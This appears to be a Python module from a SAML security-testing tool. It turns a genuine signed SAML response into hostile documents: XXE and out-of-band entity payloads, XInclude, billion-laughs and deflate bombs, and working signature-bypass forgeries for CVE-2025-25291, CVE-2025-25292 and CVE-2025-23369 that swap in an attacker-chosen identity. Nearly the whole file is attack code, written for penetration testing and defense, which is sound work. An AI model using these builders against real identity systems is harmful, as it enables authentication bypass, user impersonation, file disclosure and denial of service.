"""Build hostile XML documents from a genuine signed response, byte for byte (IDs, comments, DTDs, entities).

These attacks live below the tree level (DOCTYPEs, entities, parser differentials), so they are built on the
serialized bytes. Each builder is a pure function: a genuine response in, the hostile document out.
"""

from __future__ import annotations

import base64
import copy
import hashlib
import re
from datetime import UTC, datetime, timedelta

from lxml import etree

from saml_xmlns import DS, SAML, SAMLP, q

_DECLARATION = re.compile(rb"^<\?xml[^>]*\?>\s*")
_SAFE_PARSER = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False)
_DIGESTS = {
    "http://www.w3.org/2000/09/xmldsig#sha1": "sha1",
    "http://www.w3.org/2001/04/xmlenc#sha256": "sha256",
    "http://www.w3.org/2001/04/xmldsig-more#sha384": "sha384",
    "http://www.w3.org/2001/04/xmlenc#sha512": "sha512",
}


def split_declaration(xml: bytes) -> tuple[bytes, bytes]:
    """Return (XML declaration or b"", the rest)."""
    match = _DECLARATION.match(xml)
    return (match.group(0), xml[match.end() :]) if match else (b"", xml)


def with_doctype(xml: bytes, doctype: str) -> bytes:
    """Insert ``doctype`` right after the XML declaration (where a DOCTYPE must go)."""
    declaration, rest = split_declaration(xml)
    return declaration + doctype.encode("utf-8") + rest


def name_id_text(xml: bytes) -> str:
    """Return the first NameID's text (the identity the IdP signed)."""
    found = etree.fromstring(xml, _SAFE_PARSER).find(f".//{q(SAML, 'NameID')}")
    if found is None or not found.text:
        raise ValueError("the response has no NameID")
    return found.text


def replace_identity(xml: bytes, new: str) -> bytes:
    """Replace every occurrence of the signed identity in the bytes (SAMLRaider's match-and-replace, textually)."""
    return xml.replace(name_id_text(xml).encode("utf-8"), new.encode("utf-8"))


def any_doctype(xml: bytes) -> bytes:
    """A harmless ``<!DOCTYPE Response>``: a SAML message never needs one."""
    return with_doctype(xml, "<!DOCTYPE Response>")


def external_general_entity(xml: bytes, url: str) -> bytes:
    """``<!ENTITY xxe SYSTEM url>`` used as the NameID (classic XXE)."""
    identity = name_id_text(xml).encode("utf-8")
    doctype = f'<!DOCTYPE Response [<!ENTITY xxe SYSTEM "{url}">]>'
    return with_doctype(xml, doctype).replace(b">" + identity + b"<", b">&xxe;<", 1)


def external_parameter_entity(xml: bytes, url: str) -> bytes:
    """SAMLRaider's out-of-band XXE: ``<!ENTITY % xxe SYSTEM url> %xxe;`` in the internal subset."""
    return with_doctype(xml, f'<!DOCTYPE foo [ <!ENTITY % xxe SYSTEM "{url}"> %xxe; ]>')


def external_dtd(xml: bytes, url: str) -> bytes:
    """An external DTD subset: ``<!DOCTYPE Response SYSTEM url>``."""
    return with_doctype(xml, f'<!DOCTYPE Response SYSTEM "{url}">')


def billion_laughs(xml: bytes, levels: int = 10) -> bytes:
    """Nested internal entities (10^levels "lol"s) referenced from the NameID."""
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{"".join(f"&lol{i - 1};" for _ in range(10))}">' for i in range(1, levels)
    ]
    identity = name_id_text(xml).encode("utf-8")
    doctype = "<!DOCTYPE Response [" + "".join(entities) + "]>"
    return with_doctype(xml, doctype).replace(b">" + identity + b"<", f">&lol{levels - 1};<".encode(), 1)


def xinclude(xml: bytes, url: str) -> bytes:
    """An ``xi:include`` of ``url`` (parse="text") in place of the NameID's text."""
    identity = name_id_text(xml).encode("utf-8")
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{url}" parse="text"/>'
    return xml.replace(b">" + identity + b"<", b">" + include.encode() + b"<", 1)


def _refresh_times(root: etree._Element, now: datetime) -> None:
    """SAMLRaider's CVE helpers refresh every time attribute except AuthnInstant."""
    stamp = now.strftime("%Y-%m-%dT%H:%M:%S.000Z")
    later = (now + timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M:%S.000Z")
    for element in root.iter(etree.Element):
        for name, value in (("IssueInstant", stamp), ("NotBefore", stamp), ("NotOnOrAfter", later)):
            if name in element.attrib:
                element.set(name, value)
        if "SessionNotOnOrAfter" in element.attrib:
            element.set("SessionNotOnOrAfter", later)


def cve_2025_25291(xml: bytes, evil: str, now: datetime | None = None) -> bytes:
    """SAMLStorm round-trip differential (SAMLRaider ``CVE_2025_25291.java``).

    Output: ``<!DOCTYPE response SYSTEM 'x"><!--'>`` + the modified document minus its closing root tag +
    ``<![CDATA[-->`` + the original minus its closing tag + ``<!--]]>-->`` + the closing tag. REXML and libxml2
    disagree on where the SYSTEM literal and the comment end, so each sees a different assertion.
    """
    root = etree.fromstring(replace_identity(xml, evil), _SAFE_PARSER)
    _refresh_times(root, now or datetime.now(UTC))
    end_tag = f"</{root.prefix}:{etree.QName(root).localname}>" if root.prefix else f"</{root.tag}>"
    modified = etree.tostring(root).decode("utf-8")
    original = split_declaration(xml)[1].decode("utf-8")
    if modified.count(end_tag) != 1 or original.count(end_tag) != 1:
        raise ValueError("the document must have exactly one root closing tag")
    return (
        "<!DOCTYPE response SYSTEM 'x\"><!--'>\n"
        + modified.replace(end_tag, "")
        + "<![CDATA[-->\n"
        + original.replace(end_tag, "")
        + "<!--]]>-->\n"
        + end_tag
    ).encode("utf-8")


def _insert_after_issuer(element: etree._Element, child: etree._Element) -> None:
    issuer = element.find(q(SAML, "Issuer"))
    if issuer is not None:
        issuer.addnext(child)
    else:
        element.insert(0, child)


def _empty_digest(signature: etree._Element) -> str:
    method = signature.find(f".//{q(DS, 'DigestMethod')}")
    name = _DIGESTS.get("" if method is None else str(method.get("Algorithm")), "sha256")
    return base64.b64encode(hashlib.new(name, b"").digest()).decode("ascii")


def cve_2025_25292(xml: bytes, now: datetime | None = None) -> bytes:
    """The ATTLIST namespace trick (SAMLRaider ``CVE_2025_25292.java``).

    All signatures are removed; a copy of the assertion's (or response's) signature with DigestValue = digest of
    the empty string goes into the Assertion after its Issuer; ``xmlns:example="http://example.com\\u0080"`` on the
    Assertion; an unprefixed ``<Signature>`` with the original signature's children in Status/StatusDetail; and
    ``<!DOCTYPE Response [<!ATTLIST Signature xmlns CDATA #FIXED "...xmldsig#" ...>]>`` defaulting its namespace.
    """
    root = etree.fromstring(xml, _SAFE_PARSER)
    assertion = root.find(q(SAML, "Assertion"))
    status = root.find(q(SAMLP, "Status"))
    if assertion is None or status is None:
        raise ValueError("the response needs an Assertion and a Status")
    assertion_signature = assertion.find(q(DS, "Signature"))
    response_signature = root.find(q(DS, "Signature"))
    source = assertion_signature if assertion_signature is not None else response_signature
    if source is None:
        raise ValueError("the response carries no signature")
    reference = source.find(f"{q(DS, 'SignedInfo')}/{q(DS, 'Reference')}")
    for signature in (assertion_signature, response_signature):
        if signature is not None:
            signature.getparent().remove(signature)  # type: ignore[union-attr]
    forged = copy.deepcopy(source)
    for value in forged.iter(q(DS, "DigestValue")):
        value.text = _empty_digest(source)
    _insert_after_issuer(assertion, forged)
    detail = etree.SubElement(status, q(SAMLP, "StatusDetail"))
    unprefixed = etree.SubElement(detail, "Signature")
    for child in source:
        unprefixed.append(copy.deepcopy(child))
    if assertion_signature is None and reference is not None:
        referenced = str(reference.get("URI", "")).lstrip("#")
        assertion.set("ID", referenced)
        root.set("ID", referenced + "ffff")
    _refresh_times(root, now or datetime.now(UTC))
    text = etree.tostring(root).decode("utf-8")
    # lxml will not write an invalid namespace URI, so the declaration is added textually (as DOM would).
    opening = re.search(r"<saml2:Assertion\b", text)
    if opening is None:
        raise ValueError("no saml2:Assertion start tag")
    text = text[: opening.end()] + ' xmlns:example="http://example.com\u0080"' + text[opening.end() :]
    if 'xmlns:ds="' not in text.split(">", 1)[0]:
        text = text.replace(">", f' xmlns:ds="{DS}">', 1)
    doctype = (
        '<!DOCTYPE Response [<!ATTLIST Signature xmlns CDATA #FIXED "http://www.w3.org/2000/09/xmldsig#" '
        'xmlns CDATA "block">]>'
    )
    return ('<?xml version="1.0" encoding="UTF-8"?>' + doctype + text).encode("utf-8")


def cve_2025_23369(xml: bytes) -> bytes:
    """SAMLRaider's XSW10 (CVE-2025-23369): entity-built IDs and a signed copy hidden in ds:Object."""
    root = etree.fromstring(xml, _SAFE_PARSER)
    assertion = root.find(q(SAML, "Assertion"))
    if assertion is None:
        raise ValueError("the response needs an Assertion")
    response_signature = root.find(q(DS, "Signature"))
    if response_signature is not None:
        root.remove(response_signature)
    signature = assertion.find(q(DS, "Signature"))
    if signature is None:
        raise ValueError("the assertion must be signed")
    clone = copy.deepcopy(signature)
    _insert_after_issuer(root, clone)
    holder = etree.SubElement(clone, q(DS, "Object"), nsmap={"ds": DS})
    hidden = copy.deepcopy(assertion)
    holder.append(hidden)
    original_id = str(assertion.get("ID"))
    assertion.set("ID", original_id + "ffff")
    assertion.remove(signature)
    root.set("ID", "&idViaEntity;")
    hidden.set("ID", "&BypassIDUniqueness;" + original_id)
    body = etree.tostring(root).decode("utf-8").replace("&amp;", "&")
    doctype = f'<!DOCTYPE response [\n<!ENTITY idViaEntity "{original_id}">\n<!ENTITY BypassIDUniqueness "&#x50;">\n]>'
    return ('<?xml version="1.0" encoding="UTF-8"?>' + doctype + body).encode("utf-8")


def pad(xml: bytes, total: int) -> bytes:
    """Grow the document to about ``total`` bytes with a comment after the root start tag (still well formed)."""
    declaration, rest = split_declaration(xml)
    head, sep, tail = rest.partition(b">")
    filler = max(0, total - len(xml) - 7)
    return declaration + head + sep + b"<!--" + b"x" * filler + b"-->" + tail


def deflate_bomb(size: int) -> bytes:
    """An XML prefix followed by ``size`` bytes of one repeated character: a tiny raw DEFLATE stream."""
    return b'<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_bomb">' + b"A" * size
